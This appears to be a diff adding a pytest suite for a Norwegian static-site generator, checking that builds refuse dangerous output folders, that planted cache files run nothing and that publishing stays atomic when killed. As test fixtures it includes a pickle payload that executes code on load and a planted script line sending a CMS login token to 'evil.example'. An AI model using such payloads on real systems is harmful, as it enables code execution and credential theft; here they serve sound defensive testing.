@@ -1,0 +1,359 @@
+"""Spec: safe at work. A typo never deletes a project, a cache never runs code, a killed build
+never leaves a half site live, and nothing is published from outside the content folder.
+
+docs/quality.md ("Safety") names the test that holds each promise.
+"""
+
+from __future__ import annotations
+
+import json
+import os
+import pickle
+import shutil
+import subprocess
+import sys
+import textwrap
+from pathlib import Path
+
+import pytest
+from conftest import EPOCH, ROOT, tree_digest
+
+ENV = {**os.environ, "SOURCE_DATE_EPOCH": EPOCH}
+
+
+def cli(*args: str, cwd: Path = ROOT, env: dict[str, str] | None = None) -> subprocess.CompletedProcess[str]:
+    return subprocess.run([sys.executable, "-m", "hub", *args], capture_output=True, text=True, cwd=cwd,
+                          env=env or ENV, timeout=600)
+
+
+def everything(folder: Path) -> dict[str, str]:
+    """Every file and folder below ``folder`` (``.git`` included), to show nothing was touched."""
+    return {**{p.relative_to(folder).as_posix() + "/": "" for p in folder.rglob("*") if p.is_dir()},
+            **tree_digest(folder)}
+
+
+def add_district(tree, slug: str, name: str) -> None:
+    tree.write(f"districts/{slug}/district.yaml",
+               (tree.root / "districts/nordby/district.yaml").read_text("utf-8").replace("Nordby", name))
+
+
+# --- 1. the output folder -------------------------------------------------------------------------
+
+@pytest.fixture
+def project(tree):
+    """A project folder as a web team keeps it: the content, a git repository, notes of their own."""
+    root = tree.root.parent
+    subprocess.run(["git", "init", "-q", str(root)], check=True)
+    (root / "notater.txt").write_text("Møtereferat\n", "utf-8")
+    (root / "docs").mkdir()
+    (root / "docs/index.html").write_text("<p>Vår egen side</p>\n", "utf-8")
+    return root
+
+
+@pytest.mark.parametrize(("out", "message"), [
+    (".", "inneholder innholdsmappen"),  # the project itself: content, .git, everything
+    ("content", "er innholdsmappen selv"),
+    ("content/districts", "ligger inne i innholdsmappen"),
+    ("docs", "ble ikke laget av knutepunkt"),  # a folder of the team's own, not a build
+    ("notater.txt", "er ikke en mappe"),
+])
+@pytest.mark.parametrize("mode", ["full", "district"])
+def test_build_refuses_an_out_that_publishing_would_destroy_and_touches_nothing(project, out, message, mode):
+    before = everything(project)
+    extra = ["--district", "nordby"] if mode == "district" else []
+    r = cli("build", "--content", "content", "--out", out, "--no-search", *extra, cwd=project)
+    assert r.returncode == 2, r.stdout + r.stderr
+    assert message in r.stderr and "Traceback" not in r.stderr
+    assert r.stderr.startswith("knutepunkt build: ") and r.stderr.count("\n") == 1
+    assert everything(project) == before
+
+
+def test_build_refuses_an_out_that_holds_the_current_directory(project):
+    (project / "content/districts/nordby/services").mkdir(exist_ok=True)
+    r = cli("build", "--content", "..", "--out", "../../..", cwd=project / "content/districts")
+    assert r.returncode == 2 and "inneholder" in r.stderr
+    r = cli("build", "--content", str(project / "content"), "--out", str(project / "docs/.."), cwd=project / "docs")
+    assert r.returncode == 2 and "inneholder" in r.stderr
+
+
+def test_an_empty_folder_or_an_earlier_build_may_be_replaced(project):
+    (project / "site").mkdir()
+    assert cli("build", "--content", "content", "--out", "site", "--no-search", cwd=project).returncode == 0
+    (project / "content/districts/nordby/index.md").write_text("Velkommen.\n", "utf-8")
+    r = cli("build", "--content", "content", "--out", "site", "--no-search", cwd=project)
+    assert r.returncode == 0, r.stderr
+    assert "Velkommen." in (project / "site/nordby/index.html").read_text("utf-8")
+
+
+def test_region_build_refuses_the_folder_of_its_region_file_and_a_foreign_folder(project):
+    region = project / "region"
+    region.mkdir()
+    (region / "region.yaml").write_text(
+        "name: Region\nbase_url: https://region.example.no/\nmembers:\n  - {slug: test, source: ../site}\n", "utf-8")
+    before = everything(project)
+    for out, message in ((region, "inneholder regionfilen"), (project / "docs", "ble ikke laget av knutepunkt"),
+                         (project, "inneholder regionfilen")):
+        r = cli("region", "build", str(region / "region.yaml"), "--out", str(out), cwd=project)
+        assert r.returncode == 2 and message in r.stderr and "Traceback" not in r.stderr, r.stderr
+    assert everything(project) == before
+
+
+def test_cms_writes_its_page_only_into_a_folder_of_its_own(project):
+    before = everything(project)
+    for out, message in ((".", "inneholder innholdsmappen"), ("docs", "mangler decap-cms.js")):
+        r = cli("cms", "--backend", "local", "--out", out, cwd=project)
+        assert r.returncode == 2 and message in r.stderr, r.stderr
+    assert everything(project) == before
+
+
+# --- 2. caches hold data, never code -------------------------------------------------------------
+
+class Bomb:
+    """Unpickling this writes the marker file: what a planted cache file would do."""
+
+    def __init__(self, marker: Path) -> None:
+        self.marker = marker
+
+    def __reduce__(self):
+        return (exec, (f"open({str(self.marker)!r}, 'w').write('ran')",))
+
+
+def plant(cache: Path, marker: Path, content: Path, options: str, folder: str) -> list[Path]:
+    """A malicious file under every name the tool reads back from ``cache``, as pickle and as JSON."""
+    import hashlib
+    from importlib.metadata import version
+
+    from jinja2.bccache import bc_magic
+
+    from hub.pipeline.incremental import district_key, inputs
+    from hub.site import compounds
+    from hub.theme import find_theme
+
+    bomb = pickle.dumps(Bomb(marker))
+    now = inputs(content, find_theme("default"), options=options)
+    names = [f"{folder}/{slug}.{district_key(now, slug)[:24]}.{ext}" for slug in now.districts
+             for ext in ("pickle", "json")]
+    key = f"{version('wordfreq')}|{compounds.VOCABULARY_SIZE}|{','.join(sorted(compounds._NOT_PARTS))}"
+    names += [f"vocabulary-{hashlib.sha256(key.encode()).hexdigest()[:16]}.{ext}" for ext in ("pickle", "json")]
+    planted = [cache / n for n in names]
+    for path in planted:
+        path.parent.mkdir(parents=True, exist_ok=True)
+        path.write_bytes(bomb)
+    templates = find_theme("default") / "templates"  # Jinja's bytecode: a pickled checksum, then marshal
+    for t in templates.rglob("*.*"):
+        name = t.relative_to(templates).as_posix()
+        bucket = hashlib.sha1(name.encode() + f"|{os.path.normpath(t)}".encode()).hexdigest() + hashlib.sha1(
+            t.read_bytes()).hexdigest()
+        path = cache / f"jinja-{now.code[:16]}" / bucket
+        path.parent.mkdir(parents=True, exist_ok=True)
+        path.write_bytes(bc_magic + bomb)
+        planted.append(path)
+    return planted
+
+
+def test_planted_cache_files_run_nothing_in_a_build_and_are_made_again(tree, tmp_path):
+    base, marker = tree.root.parent, tmp_path / "ran"
+    add_district(tree, "sydby", "Sydby")
+    clean = tmp_path / "clean"
+    shutil.copytree(base, clean)
+    assert cli("build", "--out", "site", "--no-search", "-j", "1", cwd=clean).returncode == 0
+    planted = plant(base / ".knutepunkt-cache", marker, tree.root, f"False|None|{_today()}|", "site/districts")
+    r = cli("build", "--out", "site", "--no-search", "-j", "1", cwd=base)
+    assert r.returncode == 0, r.stderr
+    assert not marker.exists()
+    assert tree_digest(base / "site") == tree_digest(clean / "site")
+    assert not list((base / ".knutepunkt-cache/site/districts").glob("*.pickle"))  # stale names are pruned
+    stored = sorted((base / ".knutepunkt-cache/site/districts").iterdir())
+    assert [p.name.split(".")[0] for p in stored] == ["nordby", "sydby"]
+    assert all(json.loads(p.read_bytes())["slug"] in ("nordby", "sydby") for p in stored)  # made again, as JSON
+
+
+def _today() -> str:
+    from hub.time.clock import today_from_env
+
+    return str(today_from_env())
+
+
+def test_planted_cache_files_run_nothing_in_the_preview(tree, tmp_path):
+    import urllib.request
+
+    from test_coordinator import start_serve
+
+    base, marker = tree.root.parent, tmp_path / "ran"
+    plant(base / ".knutepunkt-cache", marker, tree.root, "preview", "preview")
+    proc, page = start_serve(tree.root, "/nordby/")
+    try:
+        assert "Nordby" in page
+        port = proc.args[proc.args.index("--port") + 1]
+        with urllib.request.urlopen(f"http://127.0.0.1:{port}/nordby/tjenester/helsestasjon/", timeout=30) as r:
+            assert "Vaksiner og råd" in r.read().decode()
+    finally:
+        proc.terminate()
+        proc.wait(timeout=10)
+    assert not marker.exists()
+
+
+def test_a_planted_decap_package_is_refused_and_fetched_again(tree, tmp_path):
+    import io
+    import tarfile
+
+    from hub.editor.admin import DECAP_VERSION
+
+    base = tree.root.parent
+    cache = base / ".knutepunkt-cache"
+    evil = b"fetch('https://evil.example/' + localStorage.getItem('decap-cms-user'));\n"
+    unpacked = cache / f"decap-cms-{DECAP_VERSION}"  # where an earlier version kept it unpacked
+    unpacked.mkdir(parents=True)
+    (unpacked / "decap-cms.js").write_bytes(evil)
+    with tarfile.open(cache / f"decap-cms-{DECAP_VERSION}.tgz", "w:gz") as tar:
+        info = tarfile.TarInfo("package/dist/decap-cms.js")
+        info.size = len(evil)
+        tar.addfile(info, io.BytesIO(evil))
+    r = cli("cms", "--backend", "local", "--content", "content", cwd=base)
+    assert r.returncode == 0, r.stderr
+    script = (base / "admin/decap-cms.js").read_bytes()
+    assert b"evil.example" not in script and len(script) > 1_000_000
+
+
+# --- 5. publishing is atomic ---------------------------------------------------------------------
+
+#: Runs the command given after it, and is SIGKILLed at the KILL_AT-th call that changes the live output
+#: or what lies beside it (rename, link, remove, exchange); with KILL_AT=0 it only lists those calls.
+KILLER = textwrap.dedent('''
+    import os, runpy, shutil, signal, sys
+    out = os.path.abspath(os.environ["OUT"])
+    kill_at, log = int(os.environ["KILL_AT"]), open(os.environ["KILL_LOG"], "a")
+    calls = 0
+
+    def touches(arg):
+        try:
+            p = os.path.abspath(os.fsdecode(arg))
+        except TypeError:
+            return False
+        return p == out or p.startswith(out + os.sep) or os.path.basename(p).startswith(
+            "." + os.path.basename(out) + ".")
+
+    def hooked(name, real):
+        def call(*args, **kwargs):
+            global calls
+            if any(touches(a) for a in args[:2]):
+                calls += 1
+                log.write(name + "\\n")
+                log.flush()
+                if calls == kill_at:
+                    os.kill(os.getpid(), signal.SIGKILL)
+            return real(*args, **kwargs)
+        return call
+
+    for name in ("rename", "replace", "link"):
+        setattr(os, name, hooked(name, getattr(os, name)))
+    shutil.rmtree = hooked("rmtree", shutil.rmtree)
+    try:
+        import hub.publish
+        hub.publish._exchange = hooked("exchange", hub.publish._exchange)
+    except ImportError:
+        pass
+    sys.argv = ["knutepunkt", *sys.argv[1:]]
+    runpy.run_module("hub", run_name="__main__")
+''')
+
+
+def killed_run(folder: Path, args: list[str], out: str, kill_at: int) -> tuple[int, list[str]]:
+    """Run ``knutepunkt ARGS`` in ``folder``, killed at the ``kill_at``-th call (0: never); the exit
+    code and the calls it made."""
+    log = folder / "calls.log"
+    log.unlink(missing_ok=True)
+    env = {**ENV, "OUT": str(folder / out), "KILL_AT": str(kill_at), "KILL_LOG": str(log)}
+    r = subprocess.run([sys.executable, "-c", KILLER, *args], cwd=folder, env=env, capture_output=True, text=True,
+                       timeout=600)
+    assert r.returncode in (0, -9), r.stderr
+    return r.returncode, log.read_text().split() if log.exists() else []
+
+
+def kill_points(calls: list[str]) -> list[int]:
+    """The first call, each first and last call of a kind, and the last three."""
+    points = {1, len(calls), len(calls) - 1, len(calls) - 2}
+    for kind in set(calls):
+        where = [n for n, c in enumerate(calls, start=1) if c == kind]
+        points |= {where[0], where[-1], where[len(where) // 2]}
+    return sorted(p for p in points if p >= 1)
+
+
+def site(folder: Path) -> dict[str, str]:
+    return tree_digest(folder) if folder.is_dir() else {}
+
+
+def two_district_tree(tree) -> None:
+    add_district(tree, "sydby", "Sydby")
+    add_district(tree, "vestby", "Vestby")
+    tree.write("districts/sydby/services/helsestasjon.md",
+               (tree.root / "districts/nordby/services/helsestasjon.md").read_text("utf-8"))
+
+
+@pytest.mark.parametrize("mode", ["incremental", "full", "district"])
+def test_a_build_killed_while_it_publishes_leaves_the_old_site_or_the_new_one_never_a_mix(tree, tmp_path, mode):
+    two_district_tree(tree)
+    base = tree.root.parent
+    args = {"incremental": ["build", "--out", "site", "-j", "1"],
+            "full": ["build", "--out", "site", "-j", "1", "--full"],
+            "district": ["build", "--out", "site", "-j", "1", "--district", "nordby"]}[mode]
+    assert cli(*args, cwd=base).returncode == 0
+    old = site(base / "site")
+    service = tree.root / "districts/nordby/services/helsestasjon.md"
+    service.write_text(service.read_text("utf-8").replace("Vaksiner og råd", "Vaksiner, veiing og råd"), "utf-8")
+
+    reference = tmp_path / "reference"
+    shutil.copytree(base, reference, symlinks=True)
+    code, calls = killed_run(reference, args, "site", 0)
+    new = site(reference / "site")
+    assert code == 0 and new != old
+
+    for n in kill_points(calls):
+        work = tmp_path / f"killed-{n}"
+        shutil.copytree(base, work, symlinks=True)
+        code, _ = killed_run(work, args, "site", n)
+        assert code == -9
+        assert site(work / "site") in (old, new), f"killed at call {n} ({calls[n - 1]}): a mix is live"
+        again = cli(*args, cwd=work)  # the next build finishes the job and clears what was left behind
+        assert again.returncode == 0, again.stderr
+        assert site(work / "site") == new
+        assert sorted(p.name for p in work.iterdir() if p.name.startswith(".site")) == []
+    assert calls[-2:] == ["exchange", "rmtree"]  # live in one step; then the old site goes
+    if mode == "incremental":
+        assert "link" in calls and "rename" not in calls  # carried over by linking: the old site stays whole
+
+
+def test_a_region_build_killed_while_it_publishes_leaves_the_old_region_or_the_new_one(tree, tmp_path):
+    base = tree.root.parent
+    assert cli("build", "--out", "member", "--no-search", cwd=base).returncode == 0
+    (base / "region.yaml").write_text(
+        "name: Region\nbase_url: https://region.example.no/\nmembers:\n  - {slug: test, source: member}\n", "utf-8")
+    args = ["region", "build", "region.yaml", "--out", "site"]
+    assert cli(*args, cwd=base).returncode == 0
+    old = site(base / "site")
+    (base / "region.yaml").write_text((base / "region.yaml").read_text("utf-8").replace(
+        "name: Region", "name: Regionen vår"), "utf-8")
+    reference = tmp_path / "reference"
+    shutil.copytree(base, reference)
+    code, calls = killed_run(reference, args, "site", 0)
+    new = site(reference / "site")
+    assert code == 0 and new != old
+    for n in kill_points(calls):
+        work = tmp_path / f"killed-{n}"
+        shutil.copytree(base, work)
+        assert killed_run(work, args, "site", n)[0] == -9
+        assert site(work / "site") in (old, new), f"killed at call {n} ({calls[n - 1]}): a mix is live"
+        assert cli(*args, cwd=work).returncode == 0 and site(work / "site") == new
+        assert sorted(p.name for p in work.iterdir() if p.name.startswith(".site")) == []
+    assert calls[-2:] == ["exchange", "rmtree"]
+
+
+def test_two_builds_into_one_folder_at_once_do_not_cross(tree, tmp_path):
+    from hub.publish import OutputRefused, staging_folder
+
+    out = tmp_path / "site"
+    with staging_folder(out, tmp_path / ".knutepunkt-cache") as first:
+        first.mkdir()
+        with pytest.raises(OutputRefused, match="en annen kjøring"), staging_folder(out, tmp_path / ".knutepunkt-cache"):
+            pass
+        assert first.is_dir()  # the second run neither removed nor touched what the first is writing
